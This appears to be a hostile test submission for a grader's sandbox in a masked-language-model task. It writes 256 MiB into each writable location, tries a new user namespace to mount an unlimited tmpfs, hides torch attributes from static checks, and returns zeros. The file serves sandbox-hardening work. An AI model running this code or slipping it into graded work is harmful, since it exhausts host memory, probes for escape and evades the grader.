"""Hostile: fills every place it can write with 256 MiB (in 8 MiB files, under the file-size limit):
the sandbox's root, /dev, /dev/shm, /tmp, its own folders, and tmpfs mounts it makes in a new user
namespace. All of that is memory the grader's host pays for. Every wall holds when each place takes
at most its stated size; a place that took all 256 MiB makes it raise (runtime_error, not the
wrong_answer its zeros earn)."""

import torch

T = [torch][0]  # hides torch's attributes from the static check, as a determined attacker would
os, sys = T.os, T.sys
MARKER = "mlm-hostile-marker"
CHUNK = b"\xa5" * (1 << 20)
FILE_MIB, TOTAL_MIB = 8, 256
done = []


def zeros_answer(w_emb, mask_indicator):
    return torch.zeros(int((mask_indicator > 0.5).sum()), w_emb.shape[0], dtype=w_emb.dtype)


def fill(folder):
    """MiB written below `folder` before the first refusal, and why it stopped."""
    written, why = 0, "all written"
    try:
        for index in range(TOTAL_MIB // FILE_MIB):
            with open(os.path.join(folder, f"{MARKER}-{index}"), "wb") as f:
                for _ in range(FILE_MIB):
                    f.write(CHUNK)
                    f.flush()
                    written += 1
    except OSError as error:
        why = error.strerror
    return written, why


def own_mount():
    """A new user and mount namespace of its own, where it may mount a tmpfs without a size."""
    ctypes = sys.modules["importlib"].import_module("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        return None, os.strerror(ctypes.get_errno())
    for name, line in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):  # root in there
        with open(f"/proc/self/{name}", "w") as f:
            f.write(line)
    os.makedirs("/tmp/mlm-hostile-mnt", exist_ok=True)
    if libc.mount(b"none", b"/tmp/mlm-hostile-mnt", b"tmpfs", 0, None) != 0:
        return None, os.strerror(ctypes.get_errno())
    return "/tmp/mlm-hostile-mnt", "mounted"


def attack():
    here = os.path.dirname(sys._getframe(0).f_code.co_filename)
    places = ["/", "/dev", "/dev/shm", "/tmp", here, os.path.dirname(here), os.getcwd()]
    took_all = []
    for place in dict.fromkeys(places):
        written, why = fill(place)
        print(f"{place}: {written} MiB ({why})")
        took_all += [place] if written >= TOTAL_MIB else []
        for name in os.listdir(place) if os.path.isdir(place) else []:
            if name.startswith(MARKER):
                try:
                    os.unlink(os.path.join(place, name))
                except OSError:
                    pass
    try:
        pid = os.fork()
    except OSError as error:  # the kernel refuses new processes: there is no child to try a namespace from
        print(f"own tmpfs: no child process ({error})", flush=True)
        pid = None
    if pid == 0:  # the namespace attempt in a child, so that the grader's channel is untouched
        mount, why = own_mount()
        written = fill(mount)[0] if mount else 0
        print(f"own tmpfs: {written} MiB ({why})", flush=True)
        os._exit(3 if written >= TOTAL_MIB else 0)
    if pid is not None and os.waitpid(pid, 0)[1] != 0:
        took_all.append("a tmpfs in its own namespace")
    if took_all:
        raise RuntimeError(f"256 MiB written to {', '.join(took_all)}")


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    if not done:
        done.append(True)
        attack()
    return zeros_answer(w_emb, mask_indicator)
